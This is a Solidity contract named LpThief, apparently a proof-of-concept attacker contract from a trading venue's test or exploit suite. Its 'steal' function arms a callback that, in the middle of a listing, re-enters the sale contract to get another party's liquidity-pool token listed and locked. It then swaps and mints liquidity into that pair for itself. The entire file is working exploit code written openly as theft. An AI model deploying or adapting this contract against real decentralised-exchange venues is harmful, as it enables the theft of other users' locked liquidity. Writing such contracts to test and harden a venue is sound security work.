// SPDX-License-Identifier: MIT
pragma solidity ^0.8.34;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

import {ISale} from "../interfaces/ISale.sol";
import {IUniswapV2Pair} from "../interfaces/IUniswapV2.sol";
import {IVenue, Listing} from "../interfaces/IVenue.sol";
import {ThiefToken} from "./ThiefToken.sol";

/// @title Lists its own token against a stranger's liquidity token, and has the stranger listed while it is counted
contract LpThief {
    ThiefToken public immutable token;
    IVenue private _venue;
    ISale private _sale;
    IUniswapV2Pair private _loot;
    bool private _armed;

    constructor() {
        token = new ThiefToken();
    }

    /// @param loot the stranger's pair, whose liquidity the venue is about to lock
    function steal(IVenue venue, ISale sale, IUniswapV2Pair loot) external {
        (_venue, _sale, _loot, _armed) = (venue, sale, loot, true);
        token.approve(address(venue), type(uint256).max);
        IERC20(address(loot)).approve(address(venue), type(uint256).max);
        venue.list(Listing(address(token), address(loot), 1e30 / 1e10, 1000, 3000, 0, address(this), 0, 0));
    }

    function tokenMoved() external {
        if (!_armed) return;
        _armed = false;
        _sale.list(_sale.history());

        // A little liquidity of its own, to pay into its pair: all it owns of the currency, half of it swapped.
        IERC20 money = IERC20(_sale.currency());
        IERC20 sold = IERC20(_sale.token());
        uint256 half = money.balanceOf(address(this)) / 2;
        (uint256 r0, uint256 r1, ) = _loot.getReserves();
        bool soldIs0 = address(sold) < address(money);
        (uint256 rSold, uint256 rMoney) = soldIs0 ? (r0, r1) : (r1, r0);
        uint256 bought = (half * 997 * rSold) / (rMoney * 1000 + half * 997);
        money.transfer(address(_loot), half);
        _loot.swap(soldIs0 ? bought : 0, soldIs0 ? 0 : bought, address(this), "");
        money.transfer(address(_loot), half);
        sold.transfer(address(_loot), bought);
        _loot.mint(address(this));
    }
}
